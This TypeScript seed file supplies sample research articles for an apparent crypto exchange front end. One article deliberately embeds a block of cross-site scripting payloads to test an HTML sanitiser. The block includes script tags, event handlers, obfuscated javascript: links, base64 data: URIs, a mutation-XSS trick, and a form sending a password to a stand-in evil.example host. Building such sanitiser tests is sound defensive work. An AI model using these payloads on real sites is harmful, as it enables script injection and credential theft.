// The research center's seed articles. Their HTML is what a content system might send on a bad
// day: ordinary writing beside script, event handlers, javascript: and data: links, frames, SVG
// with script, CSS expressions, forms and a link to another site. The front end must show the
// writing and render the rest harmless (docs/decisions.md, "HTML sanitiser"). Read-only, so kept
// in code rather than in the database.
import type { ResearchArticle } from '../../src/core/protocol/research';

/** Replaced when served by the first image domain of getDomainConfigList (its port changes per run). */
export const IMAGE_DOMAIN_MARK = '{{imageDomain}}';

const HOSTILE = [
  '<script>window.__pwned = "script"; alert("script")</script>',
  '<noscript><p>noscript body</p></noscript>',
  '<img src="x" onerror="window.__pwned = \'onerror\'; alert(\'onerror\')" alt="broken on purpose">',
  '<p onclick="window.__pwned = \'onclick\'" onmouseover="alert(1)">Hover and click this paragraph: nothing happens.</p>',
  '<p><a href="javascript:window.__pwned=\'href\';alert(\'href\')">A javascript: link</a>, <a href="JaVaScRiPt:alert(1)">another</a>, <a href="java&#x09;script:alert(1)">a third</a>.</p>',
  '<iframe src="https://evil.example/frame" title="frame"></iframe>',
  '<svg width="10" height="10"><script>window.__pwned = "svg"</script><a href="javascript:alert(1)"><text>svg</text></a></svg>',
  '<div style="background:url(javascript:alert(1)); width: expression(alert(1))">A styled block with a CSS expression.</div>',
  '<style>body { display: none } * { background: url("https://evil.example/css.gif") }</style>',
  '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">A data: page</a> and <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" alt="svg data"></p>',
  '<form action="https://evil.example/steal"><input name="password" placeholder="Password"><button>Send</button></form>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'"></style></mglyph></table></mtext></math>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><link rel="stylesheet" href="https://evil.example/x.css">',
  '<img src="https://evil.example/pixel.gif" alt="tracking pixel"><img src="//evil.example/pixel2.gif" alt="protocol-relative pixel">',
  '<p><a href="https://evil.example/phish">A link to another site</a> keeps its words and loses its address.</p>',
  '<!-- a comment that must not survive -->',
].join('\n');

const SEED: readonly ResearchArticle[] = [
  {
    id: 'bitcoin-liquidity-after-halving',
    title: 'Bitcoin liquidity after the halving',
    summary: 'Order book depth, spreads and funding on BTCUSDT in the weeks after the supply cut.',
    publishedAt: Date.UTC(2024, 5, 3, 9, 0),
    author: 'OpenEx Research',
    readMinutes: 6,
    coin: 'BTC',
    lang: 'en',
    html: [
      '<h2>What changed</h2>',
      '<p>Miners now receive <strong>3.125 BTC</strong> per block. Spot depth within 1% of the mid price held steady, while spreads on <a href="/spot/BTCUSDT">BTCUSDT</a> narrowed during Asian hours.</p>',
      `<figure><img src="${IMAGE_DOMAIN_MARK}/images/coins/BTC.svg" alt="Bitcoin badge" width="64" height="64"><figcaption>Served from the image domain.</figcaption></figure>`,
      '<h3>Depth within 1% of mid</h3>',
      '<table><thead><tr><th scope="col">Week</th><th scope="col">Bid depth (BTC)</th><th scope="col">Ask depth (BTC)</th></tr></thead>',
      '<tbody><tr><td>1</td><td>412</td><td>398</td></tr><tr><td>2</td><td>436</td><td>421</td></tr><tr><td>3</td><td>451</td><td>447</td></tr></tbody></table>',
      '<ul><li>Funding stayed positive but below 0.01% per eight hours.</li><li>Open interest grew 7%.</li></ul>',
      `<p>The full-size badge is on <a href="${IMAGE_DOMAIN_MARK}/images/coins/BTC.svg">our image domain</a>.</p>`,
      '<blockquote>Liquidity follows volatility; volatility follows news.</blockquote>',
    ].join('\n'),
  },
  {
    id: 'ethereum-staking-explained',
    title: 'Ethereum staking yields, explained',
    summary: 'Where staking rewards come from and why they move. This article arrived from a compromised feed; the hostile parts must do nothing.',
    publishedAt: Date.UTC(2024, 4, 21, 14, 30),
    author: 'OpenEx Research',
    readMinutes: 4,
    coin: 'ETH',
    lang: 'en',
    html: [
      '<h2>Where the yield comes from</h2>',
      '<p>Validators earn issuance and a share of priority fees. When activity rises, so does the <em>effective</em> yield.</p>',
      `<p><img src="${IMAGE_DOMAIN_MARK}/images/coins/ETH.svg" alt="Ether badge" width="48" height="48"></p>`,
      HOSTILE,
      '<h2>What to watch</h2>',
      '<ol><li>The validator queue.</li><li>Fee burn against issuance.</li></ol>',
    ].join('\n'),
  },
  {
    id: 'reading-funding-rates',
    title: 'Reading funding rates on USDT-M perpetuals',
    summary: 'What a positive or negative funding rate tells you, and what it costs to hold a position through it.',
    publishedAt: Date.UTC(2024, 3, 8, 7, 15),
    author: 'OpenEx Research',
    readMinutes: 5,
    coin: null,
    lang: 'en',
    html: [
      '<h2>Funding in one paragraph</h2>',
      '<p>Every eight hours, longs pay shorts when the perpetual trades above the index, and shorts pay longs when it trades below.</p>',
      '<p>A rate of <code>0.01%</code> on a 10,000 USDT position costs <strong>1 USDT</strong> per interval.</p>',
      '<p>Try it on <a href="/futures/usdt/BTCUSDT">the BTCUSDT perpetual</a> in demo mode first.</p>',
    ].join('\n'),
  },
];

export class Articles {
  /** Newest first. */
  list(): readonly ResearchArticle[] {
    return [...SEED].sort((a, b) => b.publishedAt - a.publishedAt);
  }

  byId(id: string): ResearchArticle | undefined {
    return SEED.find((a) => a.id === id);
  }
}
